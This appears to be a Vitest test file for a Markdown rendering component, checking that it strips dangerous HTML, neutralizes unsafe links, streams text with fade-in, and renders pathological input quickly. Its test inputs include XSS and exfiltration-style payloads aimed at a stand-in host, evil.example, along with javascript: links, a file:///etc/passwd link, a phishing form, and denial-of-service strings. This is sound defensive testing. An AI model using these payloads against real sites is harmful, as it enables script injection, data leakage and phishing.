// @vitest-environment jsdom
import { expect, test } from "vitest"
import { loadMarkdown, Markdown } from "#components/markdown/markdown.tsx"
import { find, mount, mountGrowing } from "../mount.ts"

await loadMarkdown()

test.each([
  "![logo](https://evil.example/x.png?secret=1)",
  "![logo][ref]\n\n[ref]: https://evil.example/x.png",
  "[![logo](https://evil.example/x.png)](https://evil.example)",
  "![logo](data:image/svg+xml,<svg onload=alert(1)>)",
  "![logo](//evil.example/x.png)",
  "![half written](https://evil.example/x.p",
  '<img src="https://evil.example/x.png" onerror="alert(1)">',
  '<video poster="https://evil.example/x.png" autoplay>',
  '<iframe src="https://evil.example"></iframe>',
  "<style>body { background: url(https://evil.example/x.png) }</style>",
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<svg><image href="https://evil.example/x.png" /></svg>',
  '<form action="https://evil.example"><input name="a"><button>Sign in</button></form>',
  "<script>alert(1)</script>",
  '<div style="background: url(https://evil.example/x.png)" onclick="alert(1)">text</div>',
])("%s fetches and runs nothing", async (text) => {
  for (const isLive of [true, false]) {
    const container = await mount(<Markdown text={text} isLive={isLive} />)
    const dangerous =
      "img, svg, video, audio, iframe, object, embed, script, style, link, meta, form, [src], [srcset], [poster]"
    expect(container.querySelector(dangerous)).toBeNull()
    expect(container.innerHTML).not.toMatch(/<[^>]+\s(on\w+|style="[^"]*url)/i)
  }
})

test.each([
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](\tjavascript:alert(1))",
  "[a](java&#115;cript:alert(1))",
  "[a](data:text/html,<script>alert(1)</script>)",
  "[a](vbscript:x)",
  "[a](file:///etc/passwd)",
  "[a](//evil.example)",
  "[a](/api/auth/sign-out)",
  "<javascript:alert(1)>",
  "[a][r]\n\n[r]: javascript:alert(1)",
])("%s is text and not a link", async (text) => {
  const container = await mount(<Markdown text={text} isLive={false} />)
  expect(container.querySelector("a[href]")).toBeNull()
})

test("links to the web and to mail open a new tab, show their target, and send no referrer", async () => {
  const text = "[web](https://example.org/a) <mailto:a@example.org> https://example.org/auto"
  const container = await mount(<Markdown text={text} isLive={false} />)
  const links = [...container.querySelectorAll("a")]
  expect(links.map((link) => link.getAttribute("href"))).toEqual([
    "https://example.org/a",
    "mailto:a@example.org",
    "https://example.org/auto",
  ])
  for (const link of links) {
    expect(link.target).toBe("_blank")
    expect(link.rel).toBe("noopener noreferrer nofollow")
    expect(link.title).toBe(link.getAttribute("href"))
  }
})

test("a model's line break inside a table cell breaks the line", async () => {
  const container = await mount(<Markdown text={"| a |\n| --- |\n| one<br>two |"} isLive={false} />)
  expect(find(container, "td").innerHTML).toMatch(/^one<br>\s*two$/)
})

test("code is shown unchanged, with its language and a copy button", async () => {
  const container = await mount(<Markdown text={"```ts\nconst a = '<b>'\n```"} isLive={false} />)
  expect(find(container, "pre code").textContent).toBe("const a = '<b>'\n")
  expect(find(container, "figcaption").textContent).toBe("ts")
  find(container, "button[aria-label=Copy]")
})

test("caught-up words appear at once, and only the words after them fade in", async () => {
  const caughtUp = "These words were written while nobody looked. ".repeat(8)
  const container = await mount(<Markdown text={caughtUp} isLive />)
  expect(fading(container)).toEqual([])
})

test.each([
  ["a long answer", "A sentence of an ordinary length, with `code` and a [link](https://example.org).\n\n".repeat(400)],
  ["a long table", `| a | b |\n| --- | --- |\n${"| `cell` | [cell](https://example.org) |\n".repeat(400)}`],
  ["a list in a list in a list", "- a\n  - b\n    - c\n      - d"],
])("%s is shown in bounded time", async (_, text) => {
  const container = await mount(<Markdown text={text} isLive={false} />)
  find(container, ".markdown")
})

test("text from before the live stream does not fade in, however short, nor when it grows", async () => {
  let isLive = false
  const { container, grow } = await mountGrowing((text) => <Markdown text={text} isLive={isLive} />)
  await grow("One two.\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n")
  isLive = true
  await grow("One two.\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n")
  expect(fading(container)).toEqual([])
  await grow("One two.\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n| 3 | 4 |\n")
  expect(fading(container)).toEqual([])
  await grow("One two.\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n| 3 | 4 |\n| 5 | 6 |\n\nNew")
  expect(fading(container)).toContain("New")
  expect(fading(container)).not.toContain("1")
})

test("a table being written shows its complete rows, and all of it at the end", async () => {
  let isLive = true
  const { container, grow } = await mountGrowing((text) => <Markdown text={text} isLive={isLive} />)
  await grow("Before.\n\n| a | b |\n| --- | --- |\n| 1 | tw")
  expect(container.textContent).toBe("Before.")
  await grow("Before.\n\n| a | b |\n| --- | --- |\n| 1 | two |\n| 3 | fo")
  expect([...container.querySelectorAll("td")].map((cell) => cell.textContent)).toEqual(["1", "two"])
  isLive = false
  await grow("Before.\n\n| a | b |\n| --- | --- |\n| 1 | two |\n| 3 | fo")
  expect([...container.querySelectorAll("td")].map((cell) => cell.textContent)).toEqual(["1", "two", "3", "fo"])
})

test("live words fade in", async () => {
  const container = await mount(<Markdown text="One two" isLive />)
  expect(fading(container)).toEqual(["One", "two"])
})

test.each<[string, string]>([
  ["ten thousand quotes in quotes", `${"> ".repeat(10_000)}text`],
  ["ten thousand lists in lists", `${"- ".repeat(10_000)}text`],
  ["indented lists", Array.from({ length: 500 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n")],
  ["brackets", "[".repeat(50_000)],
  ["images in images", "![".repeat(50_000)],
  ["emphasis", "*a **a ".repeat(10_000)],
  ["asterisks", "*".repeat(50_000)],
  ["a megabyte of table", `| a | b |\n| --- | --- |\n${"| cell | cell |\n".repeat(70_000)}`],
  ["HTML", "<div>".repeat(20_000)],
  ["backticks", Array.from({ length: 400 }, (_, length) => "`".repeat(length)).join(" ")],
  ["links", "[a](".repeat(20_000)],
  ["links over many lines", "[a](\n".repeat(20_000)],
  ["footnotes", "[^1]".repeat(10_000)],
  ["a diagram of ten thousand arrows", `\`\`\`mermaid\ngraph TD\n${"A-->B\n".repeat(10_000)}\`\`\``],
  ["a formula that unfolds", `$$\\def\\a{\\a\\a}${"\\a".repeat(20_000)}$$`],
  ["fences in fences", "```\n~~~\n".repeat(10_000)],
])("%s are shown within two seconds", async (_, text) => {
  // Counts processor time, so that a busy machine does not fail it.
  const begun = process.cpuUsage()
  const container = await mount(<Markdown text={text} isLive={false} />)
  expect(process.cpuUsage(begun).user / 1_000).toBeLessThan(2_000)
  expect(container.textContent).not.toBe("")
})

function fading(container: HTMLElement): string[] {
  const words = [...container.querySelectorAll<HTMLElement>("[data-sd-animate]")]
  return words
    .filter((word) => word.style.getPropertyValue("--sd-duration") !== "0ms")
    .map((word) => word.textContent.trim())
}
